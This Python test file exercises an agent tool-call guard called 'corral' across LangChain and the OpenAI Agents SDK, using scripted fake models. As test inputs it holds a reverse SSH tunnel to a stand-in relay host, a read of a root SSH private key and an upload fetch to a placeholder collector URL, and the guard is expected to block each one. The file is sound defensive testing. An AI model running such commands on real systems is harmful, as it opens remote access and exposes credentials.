"""Agent frameworks with the real packages and their own fake or scripted models (no network)."""

from __future__ import annotations

import json
from typing import Any

import anyio
import pytest
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.tools import BaseTool, ToolException, tool

from corral import Guard
from corral.integrations.langchain_tools import guard_tool, guard_tools

TUNNEL = "ssh -N -R 8080:localhost:22 user@relay.invalid"


@pytest.fixture(scope="module")
def guard() -> Guard:
    return Guard("default")


def recording_tools(ran: list[tuple[str, Any]]) -> list[BaseTool]:
    @tool
    def terminal(command: str) -> str:
        """Run a shell command."""
        ran.append(("terminal", command))
        return f"ran {command}"

    @tool
    def read_file(file_path: str) -> str:
        """Read a file."""
        ran.append(("read_file", file_path))
        return "contents"

    @tool
    async def fetch(url: str) -> str:
        """Fetch a URL."""
        ran.append(("fetch", url))
        return "page"

    return [terminal, read_file, fetch]


def call(name: str, args: dict[str, Any], call_id: str) -> dict[str, Any]:
    return {"name": name, "args": args, "id": call_id, "type": "tool_call"}


def test_langchain_tool_calls_from_a_fake_model_are_judged(guard: Guard) -> None:
    ran: list[tuple[str, Any]] = []
    tools = {t.name: t for t in guard_tools(recording_tools(ran), guard=guard)}
    script = [
        AIMessage(
            content="",
            tool_calls=[
                call("terminal", {"command": "git status"}, "c1"),
                call("terminal", {"command": TUNNEL}, "c2"),
                call("read_file", {"file_path": "/root/.ssh/id_rsa"}, "c3"),
            ],
        )
    ]
    model = GenericFakeChatModel(messages=iter(script))
    message = model.invoke("tidy the repository")
    assert isinstance(message, AIMessage)
    answers = [tools[c["name"]].invoke(c) for c in message.tool_calls]
    assert all(isinstance(a, ToolMessage) for a in answers)
    assert [a.status for a in answers] == ["success", "error", "error"]
    assert "Corral blocked" in answers[1].content and "CR-TUN" in answers[1].content
    assert ran == [("terminal", "git status")]
    assert tools["terminal"].args == {"command": {"title": "Command", "type": "string"}}


def test_langchain_async_tool_and_raise_on_block(guard: Guard) -> None:
    ran: list[tuple[str, Any]] = []
    fetch = recording_tools(ran)[2]
    strict = guard_tool(fetch, guard=guard, raise_on_block=True)
    assert anyio.run(strict.ainvoke, {"url": "https://pypi.org/simple/"}) == "page"
    with pytest.raises(ToolException, match="Corral blocked"):
        anyio.run(strict.ainvoke, {"url": "http://collector.invalid/upload"})
    assert ran == [("fetch", "https://pypi.org/simple/")]


# -- OpenAI Agents SDK ----------------------------------------------------------------------------

from agents import Agent, Model, ModelResponse, Runner, Usage, function_tool  # noqa: E402
from agents.exceptions import ToolInputGuardrailTripwireTriggered  # noqa: E402
from agents.tracing import set_tracing_disabled  # noqa: E402
from openai.types.responses import (  # noqa: E402
    ResponseFunctionToolCall,
    ResponseOutputMessage,
    ResponseOutputText,
)

from corral.integrations.openai_agents import (  # noqa: E402
    corral_guardrail,
    decide_call,
    guard_function_tools,
)


class ScriptedModel(Model):
    """The SDK's Model interface answering from a script: tool calls first, then a final text.

    Every input it was given is kept, so a test can read the tool results the agent saw.
    """

    def __init__(self, turns: list[list[Any]]) -> None:
        self.turns = list(turns)
        self.inputs: list[Any] = []

    async def get_response(self, *args: Any, **kwargs: Any) -> ModelResponse:
        self.inputs.append(args[1] if len(args) > 1 else kwargs.get("input"))
        output = self.turns.pop(0) if self.turns else [final_text("done")]
        return ModelResponse(output=output, usage=Usage(), response_id=None)

    def stream_response(self, *args: Any, **kwargs: Any) -> Any:
        raise NotImplementedError("the scripted model does not stream")


def tool_call(name: str, arguments: str, call_id: str) -> ResponseFunctionToolCall:
    return ResponseFunctionToolCall(
        type="function_call", name=name, arguments=arguments, call_id=call_id, id=f"fc_{call_id}"
    )


def final_text(text: str) -> ResponseOutputMessage:
    content = [ResponseOutputText(type="output_text", text=text, annotations=[])]
    return ResponseOutputMessage(
        type="message", id="msg_1", role="assistant", status="completed", content=content
    )


def agents_tools(ran: list[str]) -> list[Any]:
    @function_tool
    def run_shell(command: str) -> str:
        """Run a shell command."""
        ran.append(command)
        return f"ran {command}"

    return [run_shell]


@pytest.fixture(autouse=False)
def no_tracing() -> Any:
    set_tracing_disabled(True)
    yield
    set_tracing_disabled(False)


def tool_outputs(model: ScriptedModel) -> dict[str, str]:
    items = [i for i in model.inputs[-1] if isinstance(i, dict)]
    return {
        i["call_id"]: str(i["output"]) for i in items if i.get("type") == "function_call_output"
    }


def test_openai_agents_guardrail_rejects_blocked_calls(guard: Guard, no_tracing: Any) -> None:
    ran: list[str] = []
    model = ScriptedModel(
        [
            [
                tool_call("run_shell", '{"command": "git log -1"}', "c1"),
                tool_call("run_shell", json_args(TUNNEL), "c2"),
            ],
            [final_text("finished")],
        ]
    )
    agent = Agent(
        name="ops", model=model, tools=guard_function_tools(agents_tools(ran), guard=guard)
    )
    result = anyio.run(Runner.run, agent, "check the repo")
    assert result.final_output == "finished"
    assert ran == ["git log -1"]
    outputs = tool_outputs(model)
    assert outputs["c1"] == "ran git log -1"
    assert "Corral blocked" in outputs["c2"] and "CR-TUN" in outputs["c2"]
    blocked = [
        r
        for r in result.tool_input_guardrail_results
        if r.output.output_info["decision"] != "allow"
    ]
    assert len(blocked) == 1


def json_args(command: str) -> str:
    return json.dumps({"command": command})


def test_openai_agents_guardrail_can_stop_the_run(guard: Guard, no_tracing: Any) -> None:
    ran: list[str] = []
    tools = agents_tools(ran)
    tools[0].tool_input_guardrails = [corral_guardrail(guard=guard, on_block="raise")]
    model = ScriptedModel([[tool_call("run_shell", json_args(TUNNEL), "c1")]])
    agent = Agent(name="ops", model=model, tools=tools)
    with pytest.raises(ToolInputGuardrailTripwireTriggered):
        anyio.run(Runner.run, agent, "open a tunnel")
    assert ran == []


def test_openai_agents_unreadable_arguments_are_blocked(guard: Guard, no_tracing: Any) -> None:
    ran: list[str] = []
    model = ScriptedModel([[tool_call("run_shell", "[1, 2", "c1")], [final_text("ok")]])
    agent = Agent(
        name="ops", model=model, tools=guard_function_tools(agents_tools(ran), guard=guard)
    )
    anyio.run(Runner.run, agent, "go")
    assert ran == []
    answer = tool_outputs(model)["c1"]
    assert answer.startswith("Corral blocked") and "are not JSON" in answer


class BrokenGuard(Guard):
    """An engine that fails on every action: each door must deny, never run the tool."""

    def decide(self, action: Any, *, line: int | None = None) -> Any:
        raise RuntimeError("simulated engine failure")


def test_an_internal_error_blocks_the_call_in_every_framework() -> None:
    broken = BrokenGuard("default")
    decision = decide_call(broken, "run_shell", json_args("ls"))
    assert decision["decision"] == "deny" and "simulated engine failure" in decision["error"]
    ran: list[tuple[str, Any]] = []
    terminal = guard_tool(recording_tools(ran)[0], guard=broken, raise_on_block=True)
    with pytest.raises(ToolException, match="could not be judged"):
        terminal.invoke({"command": "ls"})
    assert ran == []
